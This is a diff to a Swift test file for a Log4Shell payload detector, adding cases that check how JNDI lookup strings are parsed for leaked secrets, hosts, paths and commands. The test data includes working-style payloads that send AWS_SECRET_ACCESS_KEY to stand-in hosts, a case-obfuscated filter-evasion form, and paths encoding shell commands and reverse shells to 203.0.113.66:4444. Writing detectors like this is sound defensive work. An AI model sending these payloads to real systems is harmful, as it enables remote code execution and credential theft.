@@ -100,6 +100,34 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   @Test func anOpenPayloadLeaksOnlyWhatItNames() {
     #expect(log4shell("{\"ua\":\"${jndi:ldap://${hostName}.h.example/x\",\"b\":\"${c}\"}")?.leaks == ["hostName"])
     #expect(log4shell("${jndi:ldap://${env:AWS_SECRET_A")?.leaks == [])
+    // No longer name begins so.
+    #expect(log4shell("${jndi:ldap://h/${env:AWS_SECRET_ACCESS_KEY")?.leaks == ["env:AWS_SECRET_ACCESS_KEY"])
+  }
+
+  @Test func namesWhatBase64LooksUp() {
+    let found = log4shell("${jndi:ldap://h.example/${base64:\(base64("${env:AWS_SECRET_ACCESS_KEY}"))}}")
+    #expect(found?.leaks == ["env:AWS_SECRET_ACCESS_KEY"])
+    #expect(log4shell("${jndi:ldap://h.example/${base64:\(base64("plain"))}}")?.leaks == [])
+  }
+
+  @Test func aQuoteOfTheTextAroundIsNoPartOfThePath() {
+    #expect(log4shell("{'ua':'${jndi:ldap://h.example/a'}")?.path == "/a")
+    #expect(log4shell("${jndi:ldap://h.example/a='b'}")?.path == "/a='b'")
+  }
+
+  /// A field may have been cut right behind the lookup's name; in memory that is a word.
+  @Test func theNameAloneIsOneAtTheEndOfAField() {
+    #expect(log4shell("q=${jndi:")?.confidence == .medium)
+    #expect(log4shell("q=${jndi:", .bytes) == nil)
+    #expect(log4shell("${jndi:\nand more") == nil)
+  }
+
+  /// Words about payloads, unless they were made to get past a filter.
+  @Test func aPlaceholderIsNoHost() {
+    #expect(log4shell("an attacker sends ${jndi:ldap://<attacker>/a}") == nil)
+    #expect(log4shell("use ${jndi:[protocol]://[host]/[path]} format") == nil)
+    #expect(log4shell("${${lower:j}ndi:ldap://<attacker>/a}") != nil)
+    #expect(log4shell("${jndi:ldap://[::1]/a}")?.host == "[::1]")
   }
 
   @Test(arguments: ["echo ${JNDI:-ldap://h.example:389/}", "${jndi:-ldap://h.example/a}", "${jndi:ldap} and more"])
@@ -153,7 +181,7 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
   @Test(
     arguments: [
       ("${jndi:ldap://[2001:db8::7]:1389/x}", "[2001:db8::7]", 1389),
-      ("${jndi:ldap://[2001:db8::7]/x}", "[2001:db8::7]", nil),
+      ("${jndi:ldap://[2001:db8::7]/x}", "[2001:db8::7]", nil), ("${jndi:ldap://2001:db8::1/a}", "2001:db8::1", nil),
       ("${jndi:rmi://h.example:99/x}", "h.example", 99), ("${jndi:ldap://h.example:999999/x}", "h.example", nil),
       ("${jndi:dns:/h.example}", "h.example", nil),
       ("${jndi:ldap://127.0.0.1#h.example:8/x}", "127.0.0.1#h.example", 8),
@@ -189,6 +217,22 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(
       log4shell("${jndi:ldap://h.example/Deserialization/CommonsBeanutils1/Command/Base64/\(base64("id > /tmp/o"))}")?
         .commands == ["id > /tmp/o"])
+  }
+
+  /// Where a command is told, one of any length is one.
+  @Test(arguments: [
+    ("Basic/Command/Base64/aWQ=", "id"), ("Basic/Command/Base64/bHM=", "ls"), ("Basic/Command/Base64/cHdk", "pwd"),
+    ("o=tomcat,cmd=aWQ=", "id"), ("shell/203.0.113.66:4444", "reverse shell to 203.0.113.66:4444"),
+    ("java_reverse_shell/203.0.113.66:4444", "reverse shell to 203.0.113.66:4444"),
+  ])
+  func readsShortCommands(path: String, command: String) {
+    #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands == [command])
+  }
+
+  @Test(arguments: ["shell/index", "o=tomcat", "Basic/Base64/%00", "cmd=", "aWQ="]) func otherPathsHoldNone(
+    path: String
+  ) {
+    #expect(log4shell("${jndi:ldap://h.example/\(path)}")?.commands == [])
   }
 
   @Test func readsUTF16() {
